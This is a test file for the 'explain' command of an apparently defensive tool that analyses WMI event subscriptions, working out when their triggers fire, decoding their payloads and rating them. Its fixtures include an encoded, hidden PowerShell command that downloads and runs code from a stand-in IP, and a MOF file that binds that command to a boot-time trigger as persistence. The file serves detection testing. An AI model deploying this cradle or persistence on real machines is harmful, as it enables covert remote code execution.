import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Explanation } from "@unbind/report";
import { afterAll, describe, expect, it } from "vitest";
import { runCommand } from "../run-command.ts";
import { fixtureFiles } from "./fixture-files.ts";

const folder = mkdtempSync(join(tmpdir(), "unbind-explain-"));
const files = fixtureFiles();
afterAll(() => {
  files.remove();
  rmSync(folder, { recursive: true, force: true });
});

const explain = (...args: string[]) => runCommand(["explain", ...args], { input: "" });

function file(name: string, content: string | Uint8Array): string {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
}

async function explained(...args: string[]): Promise<Explanation> {
  const { stdout } = await explain(...args, "--format", "json");
  return JSON.parse(stdout);
}

const BOOT =
  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA " +
  "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325";
const COMMAND =
  "powershell -w hidden -nop -e " +
  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIA" +
  "aQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEAMAAvAGEAJwApAA==";
const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a')";
const MOF = `#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")
instance of __EventFilter as $F { Name = "F"; EventNamespace = "root\\\\cimv2"; QueryLanguage = "WQL"; Query = "${BOOT}"; };
instance of CommandLineEventConsumer as $C { Name = "C"; CommandLineTemplate = "${COMMAND}"; };
instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };`;

describe("unbind explain", () => {
  it("says when a query fires, on standard output and only there", async () => {
    const args = [BOOT, "--when", "2026-03-01", "2026-03-02", "--boot", "2026-03-01T08:00:00Z"];
    const { code, stdout, stderr } = await explain(...args, "--width", "300");
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    expect(stdout.split("\n")[0]).toBe("UNKNOWN, score 15 of 100: a filter with this query");
    expect(stdout).toContain(
      "Runs when   Once or twice after each start of the computer, between 4 min 0 s and 5 min 25 s",
    );
    expect(stdout).toMatch(/Would fire {2}2026-03-01 08:04:00 UTC\n +2026-03-01 08:05:00 UTC\n/);
    expect(stdout).not.toContain("\u001b");
  });

  it("takes the input behind the times too, and asks for the start of the computer", async () => {
    const { subjects } = await explained("--when", "2026-03-01", BOOT);
    expect(subjects[0]?.firing).toEqual({
      from: "2026-03-01T00:00:00.0000000Z",
      to: "2026-03-02T00:00:00.0000000Z",
      bootTime: null,
      times: [],
      more: false,
      note: "It counts from the start of the computer: say when that was with --boot TIME.",
    });
  });

  it("lists times on a host's own clock, so many of them", async () => {
    const query =
      "SELECT * FROM __InstanceModificationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LocalTime' AND " +
      "TargetInstance.Hour = 5 AND TargetInstance.Minute = 3";
    const { subjects } = await explained(query, "--when", "2026-01-01", "--zone", "+01:00", "--count", "2");
    const times = ["2026-01-01T04:03:00.0000000Z", "2026-01-01T04:03:05.0000000Z"];
    expect(subjects[0]?.firing).toMatchObject({ times, more: true, note: null });
  });

  it("shows a query that can't be parsed, with the place", async () => {
    const { code, stdout } = await explain("SELECT * FRM Win32_ProcessStartTrace", "--width", "300");
    expect(code).toBe(0);
    expect(stdout).toContain("Not a query that WMI takes, at line 1, column 10");
  });

  it("decodes a command line: layers with ranges, indicators, verdict, techniques", async () => {
    const { input, subjects } = await explained(COMMAND);
    expect(input).toMatchObject({ kind: "command", source: "argument", length: COMMAND.length });
    const [subject] = subjects;
    const start = COMMAND.indexOf("SQBF");
    expect(subject?.payload?.layers).toEqual([
      {
        encoding: "base64-utf16le",
        content: "text",
        parent: -1,
        start,
        end: COMMAND.length,
        text: SCRIPT,
        hex: null,
      },
    ]);
    expect(subject?.payload?.indicators.map(({ type, value }) => `${type} ${value}`)).toContain(
      "url http://192.0.2.10/a",
    );
    expect(subject?.verdict.level).toBe("malicious");
    expect(subject?.attack).toEqual(expect.arrayContaining(["T1546.003", "T1027", "T1059.001", "T1105"]));
    expect(subject?.consumer).toBeNull();
    const { stdout } = await explain(COMMAND);
    expect(stdout).toContain("hxxp://192[.]0[.]2[.]10/a");
  });

  it("reads scripts of any encoding from a file and from standard input", async () => {
    const script = 'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c " & Chr(99) & Chr(97) & "lc"';
    const path = file("x.vbs", Buffer.from(`\ufeff${script}`, "utf16le"));
    const fromFile = await explained(path);
    const { stdout } = await runCommand(["explain", "-", "-f", "json"], { input: script });
    const fromInput: Explanation = JSON.parse(stdout);
    expect(fromFile.subjects).toEqual(fromInput.subjects);
    expect(fromFile.input).toEqual({ kind: "script", source: path, form: "VBScript", length: script.length });
    expect(fromInput.input.source).toBe("standard input");
    expect(fromFile.subjects[0]?.payload?.layers[0]).toMatchObject({ encoding: "char-codes", text: "cmd /c calc" });
  });

  it("explains PowerShell that is given alone as it stands", async () => {
    const { input, subjects } = await explained(SCRIPT);
    expect(input.form).toBe("PowerShell");
    expect(subjects[0]?.payload?.text).toBe(SCRIPT);
    expect(subjects[0]?.payload?.indicators[0]).toMatchObject({ start: SCRIPT.indexOf("http"), layer: -1 });
  });

  it("explains what a MOF file would make, and why it isn't benign", async () => {
    const path = file("x.mof", MOF);
    const { input, subjects } = await explained(path, "--why-not");
    expect(input).toMatchObject({ kind: "mof", form: "MOF text" });
    expect(subjects).toHaveLength(1);
    expect(subjects[0]).toMatchObject({
      id: null,
      namespace: "root\\subscription",
      filter: { name: "F" },
      trigger: { kind: "boot-window" },
      payload: { name: "Command" },
      verdict: { level: "malicious" },
    });
    expect(subjects[0]?.whyNot?.map(({ level }) => level)).toEqual(["benign"]);
    expect(subjects[0]?.next[0]).toMatch(/^Find out whether it was compiled/);
  });

  it("foretells a timer that the same MOF makes", async () => {
    const timer = `#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")
instance of __IntervalTimerInstruction { TimerId = "T1"; IntervalBetweenEvents = 3600000; };
instance of __EventFilter { Name = "F"; QueryLanguage = "WQL"; Query = "SELECT * FROM __TimerEvent WHERE TimerID = 't1'"; };`;
    const path = file("timer.mof", timer);
    const { subjects } = await explained(path, "--when", "2026-01-01", "--count", "2");
    expect(subjects[0]).toMatchObject({
      trigger: { kind: "timer-interval" },
      firing: { times: ["2026-01-01T01:00:00.0000000Z", "2026-01-01T02:00:00.0000000Z"], more: true, note: null },
    });
  });

  it("explains a subscription of a scan as the scan judged it", async () => {
    const scan = join(folder, "scan.json");
    await runCommand(["scan", files.planted, "--format", "json", "--output", scan], { input: "" });
    const { subscriptions } = JSON.parse(readFileSync(scan, "utf8"));
    for (const { id, verdict, filter } of subscriptions) {
      const [subject] = (await explained(id, "--scan", scan, "--why-not")).subjects;
      expect(subject).toMatchObject({ id, verdict, filter, host: "WKSTN-04" });
      expect(subject?.whyNot?.map(({ level }) => level)[0]).toBe(verdict.level === "benign" ? "malicious" : "benign");
    }
    const missing = await explain("sub-0000000000000000", "--scan", scan);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain(`has no subscription sub-0000000000000000: it has ${subscriptions[0].id}, `);
    expect((await explain(scan)).stderr).toContain("is a scan. Say which subscription: unbind explain sub-");
  });

  it("doesn't take a saved scan on trust", async () => {
    const id = "sub-0123456789abcdef";
    const of = (subscription: object) =>
      file("bad.json", JSON.stringify({ schema: "unbind.scan/1", subscriptions: [7, subscription] }));
    const { code, stderr } = await explain(id, "--scan", of({ id, filter: "x" }));
    expect(code).toBe(2);
    expect(stderr).toContain("is not as unbind.scan/1 has it: .host is missing.");
    expect((await explain(id, "--scan", file("bad.json", "{"))).stderr).toContain("is not JSON.");
    expect((await explain(id, "--scan", file("bad.json", "[]"))).stderr).toContain("is no unbind.scan/1.");
    expect((await explain(id, "--scan", join(folder, "none"))).stderr).toContain("can't be read");
    expect((await explain(id)).stderr).toBe(`unbind: ${id} is out of a scan: give its JSON output with --scan FILE.\n`);
  });

  it.each([
    [[], "nothing to explain. Give a query"],
    [["none.mof"], "none.mof: no such file. If it is a command line, say --as command."],
    [[folder], "is a folder."],
    [["a", "--when", "2026-01-01", "b"], 'one input at a time: "a" and "b".'],
    [["a", "--when", "soon"], "--when soon is no time."],
    [["  "], "argument is empty: there is nothing to explain."],
    [[files.planted], "is an event log, not text. Logs and archives: unbind scan"],
  ])("%j is refused with a way out", async (args, message) => {
    const { code, stdout, stderr } = await explain(...args);
    expect({ code, stdout }).toEqual({ code: 2, stdout: "" });
    expect(stderr).toMatch(/^unbind: /);
    expect(stderr).toContain(message);
  });

  it("--as overrides what the content looks like", async () => {
    expect((await explained("none.mof", "--as", "command")).input.kind).toBe("command");
    expect((await explained("SELECT", "--as", "script")).input.kind).toBe("script");
    const { code, stdout, stderr } = await explain("whoami", "--as", "mof");
    expect({ code, stderr }).toEqual({
      code: 3,
      stderr: "unbind: no filter, consumer or binding could be read in it\n",
    });
    expect(stdout).toContain("Read as MOF");
  });

  it("--fail-on and --output do as they do for scan", async () => {
    const output = join(folder, "out.json");
    const found = await explain(COMMAND, "--fail-on", "malicious", "-f", "json", "-o", output);
    expect(found).toEqual({ code: 1, stdout: "", stderr: "" });
    expect(JSON.parse(readFileSync(output, "utf8")).schema).toBe("unbind.explain/1");
    expect((await explain(BOOT, "--fail-on", "suspicious")).code).toBe(0);
    const path = file("kept.wql", BOOT);
    expect((await explain(path, "-o", path)).stderr).toContain("lies in the evidence");
    expect(readFileSync(path, "utf8")).toBe(BOOT);
  });

  it("obeys nothing in the input, and stays inside the width", async () => {
    const { stdout } = await explain("cmd /c echo \u001b[2J\u202e\u009b31m & x", "--width", "30");
    expect(stdout).toContain("\\x1b[2J");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(Math.max(...stdout.split("\n").map((line) => line.length))).toBeLessThanOrEqual(30);
  });
});
